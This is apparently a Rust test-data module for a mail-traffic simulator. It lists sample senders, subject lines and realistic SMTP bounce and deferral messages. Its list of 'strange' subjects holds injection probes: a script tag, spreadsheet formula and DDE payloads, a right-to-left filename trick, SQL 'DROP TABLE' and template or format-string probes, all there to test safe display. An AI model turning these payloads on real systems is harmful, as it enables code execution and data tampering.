//! The vocabulary of the traffic: people, subjects, and what other servers say when they refuse.

use std::borrow::Cow;

use super::letter::{Reach, Trouble};

/// People elsewhere who write to us and to whom we write.
pub(super) const PEOPLE: &[&str] = &[
    "lena.maier@bigmail.example",
    "jonas77@bigmail.example",
    "k.schulz@webfreunde.example",
    "partner@kunde-gmbh.example",
    "einkauf@kunde-gmbh.example",
    "prof.lang@uni-nord.example",
    "office@steuerbuero.example",
    "m.rossi@outmail.example",
    "sofia@outmail.example",
    "verein@sportclub.example",
    "support@hosting.example",
    "service@bank-online.example",
    "olivier@fournisseur.example",
    "yuki@tokyo-trade.example",
];

/// Senders of mailings, tagged as mailing systems do.
pub(super) const MAILINGS: &[&str] = &[
    "news+bounce-4711@newsletter-hub.example",
    "bounces+ann=alpha.test@shop24.example",
    "digest-return@forum.example",
    "no-reply@social.example",
    "angebote@reisen.example",
];

/// Senders of spam.
pub(super) const SPAMMERS: &[&str] = &[
    "winner@prize-now.example",
    "ceo.office@invoice-desk.example",
    "pharma@cheap-pills.example",
    "crypto@moon.example",
];

/// Domains that send spam and are on block lists.
pub(super) const LISTED: &[&str] = &["botnet-a.example", "dialup-77.example", "open-relay.example"];

/// Ordinary subjects.
pub(super) const SUBJECTS: &[&str] = &[
    "Angebot 2026-118",
    "Re: Termin nächste Woche",
    "Rechnung Nr. 40213",
    "Lunch tomorrow?",
    "Minutes of the meeting",
    "AW: Lieferung verspätet sich",
    "Fotos vom Sommerfest",
    "Your order has shipped",
    "Vertragsentwurf v3",
    "Question about the manual",
    "Protokoll Vorstandssitzung",
    "Re: Re: Budget",
    "Bewerbung als Sachbearbeiterin",
    "Ticket #88121 updated",
    "Einladung: Jour fixe",
    "Reisekosten Oktober",
    "Schlüsselübergabe",
    "Draft for review",
];

/// Subjects of mailings.
pub(super) const NEWS: &[&str] = &[
    "Die Woche im Überblick",
    "20 % auf alles – nur heute",
    "Weekly digest",
    "Neue Stellen in deiner Nähe",
    "Your monthly statement",
    "📦 Unterwegs: Dein Paket",
    "Last chance: early bird ends tonight",
];

/// Subjects of spam.
pub(super) const JUNK: &[&str] = &[
    "YOU HAVE WON",
    "Ihr Konto wurde gesperrt!!!",
    "Cheap pills, no questions",
    "Urgent wire transfer",
    "Verdiene 5000 € am Tag",
    "Re: your invoice overdue",
];

/// Subjects that a careless page shows wrongly.
pub(super) const STRANGE: &[&str] = &[
    "<script>alert('hello')</script> <b>Bold offer</b>",
    "=HYPERLINK(\"http://click.example/?x=\"&A1,\"Open\")",
    "مرحبا: عرض السعر \u{202e}gpj.exe",
    "שלום, פגישה ביום שלישי",
    "🎉🎂 Alles Gute, Zoë! 🎁",
    "会议纪要：第四季度",
    "100% _off_ 'quoted' \"double\" \\ back/slash; DROP TABLE mails; --",
    "   ",
    "Übergrößenträger für Straßenfußbälle – Ærø",
    "status=sent (250 2.0.0 Ok) to=<someone@else.example>",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} %s %n",
];

macro_rules! troubles {
    ($($dsn:literal $reach:ident $text:literal),* $(,)?) => {
        &[$(Trouble { dsn: Cow::Borrowed($dsn), reach: Reach::$reach, text: Cow::Borrowed($text) }),*]
    };
}

/// Reasons to wait.
pub(super) const TEMPORARY: &[Trouble] = troubles![
    "4.2.0" Answered "450 4.2.0 <{to}>: Recipient address rejected: Greylisted, see http://postgrey.schweikert.ch/help/{domain}.html (in reply to RCPT TO command)",
    "4.7.1" Answered "451 4.7.1 Greylisting in action, please come back later (in reply to RCPT TO command)",
    "4.4.1" Unreached "connect to {mx}:25: Connection timed out",
    "4.4.1" Unreached "connect to {mx}:25: Connection refused",
    "4.4.2" Dropped "lost connection with {mx} while receiving the initial server greeting",
    "4.4.2" Dropped "conversation with {mx} timed out while sending end of data -- message may be sent more than once",
    "4.4.3" Unreached "Host or domain name not found. Name service error for name={domain} type=MX: Host not found, try again",
    "4.2.2" Answered "452 4.2.2 <{to}> Mailbox full, try again later (in reply to RCPT TO command)",
    "4.7.0" Answered "421 4.7.0 [TSS04] Messages from {own} temporarily deferred due to unexpected volume or user complaints (in reply to MAIL FROM command)",
    "4.7.28" Answered "421-4.7.28 Gmail has detected an unusual rate of unsolicited mail originating 421-4.7.28 from your IP address. To protect our users from spam, mail has been 421 4.7.28 temporarily rate limited. - gsmtp (in reply to end of DATA command)",
    "4.3.2" Answered "451 4.3.2 Temporary server error. Please try again later ATTR5 (in reply to MAIL FROM command)",
    "4.7.5" Unreached "Server certificate not trusted",
];

/// Why servers cannot be reached for days.
pub(super) const LASTING: &[Trouble] = troubles![
    "4.4.1" Unreached "connect to {mx}:25: Connection timed out",
    "4.4.1" Unreached "connect to {mx}:25: No route to host",
    "4.2.2" Answered "452 4.2.2 <{to}> Mailbox full, try again later (in reply to RCPT TO command)",
    "4.4.3" Unreached "Host or domain name not found. Name service error for name={domain} type=MX: Host not found, try again",
];

/// Reasons to give up.
pub(super) const PERMANENT: &[Trouble] = troubles![
    "5.1.1" Answered "550-5.1.1 The email account that you tried to reach does not exist. Please try 550-5.1.1 double-checking the recipient's email address for typos or 550-5.1.1 unnecessary spaces. For more information, go to 550 5.1.1  https://support.google.com/mail/?p=NoSuchUser - gsmtp (in reply to RCPT TO command)",
    "5.1.1" Answered "550 5.1.1 <{to}>: Recipient address rejected: User unknown (in reply to RCPT TO command)",
    "5.1.10" Answered "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient {to} not found by SMTP address lookup (in reply to end of DATA command)",
    "5.4.1" Answered "550 5.4.1 Recipient address rejected: Access denied. (in reply to RCPT TO command)",
    "5.7.1" Answered "550 5.7.1 Unfortunately, messages from [{own}] weren't sent. Please contact your Internet service provider since part of their network is on our block list (S3140). (in reply to MAIL FROM command)",
    "5.0.0" Answered "554 IP={own} - A problem occurred. (Ask your postmaster for help or to contact tosa@rx.t-online.de to clarify.) (in reply to MAIL FROM command)",
    "5.0.0" Answered "550-Requested action not taken: mailbox unavailable 550 For explanation visit https://postmaster.gmx.net/en/error-messages (in reply to RCPT TO command)",
    "5.2.2" Answered "552 5.2.2 <{to}>: user is over quota (in reply to RCPT TO command)",
    "5.3.4" Answered "552 5.3.4 Message size exceeds fixed limit (in reply to MAIL FROM command)",
    "5.7.1" Answered "554 5.7.1 Service unavailable; Client host [{own}] blocked using zen.spamhaus.org; https://www.spamhaus.org/query/ip/{own} (in reply to RCPT TO command)",
    "5.7.26" Answered "550-5.7.26 Your email has been blocked because the sender is unauthenticated. 550 5.7.26 Gmail requires all senders to authenticate with either SPF or DKIM. - gsmtp (in reply to end of DATA command)",
    "5.7.9" Answered "554 5.7.9 Message not accepted for policy reasons. See https://postmaster.yahooinc.com/error-codes (in reply to end of DATA command)",
    "5.4.4" Unreached "Host or domain name not found. Name service error for name={domain} type=A: Host not found",
    "5.4.6" Unreached "mail for {domain} loops back to myself",
    "5.7.1" Answered "554 5.7.1 Spam message rejected (in reply to end of DATA command)",
];

/// A full mailbox here.
pub(super) const FULL_HERE: Trouble = Trouble {
    dsn: Cow::Borrowed("5.2.2"),
    reach: Reach::Answered,
    text: Cow::Borrowed(
        "552 5.2.2 <{to}> Quota exceeded (mailbox for user is full) (in reply to end of DATA command)",
    ),
};

/// Another server's greylisting.
pub(super) const GREYLISTED_THERE: Trouble = Trouble {
    dsn: Cow::Borrowed("4.7.1"),
    reach: Reach::Answered,
    text: Cow::Borrowed(
        "450 4.7.1 <{to}>: Recipient address rejected: Greylisted, please try again in 300 seconds (in reply to RCPT TO command)",
    ),
};
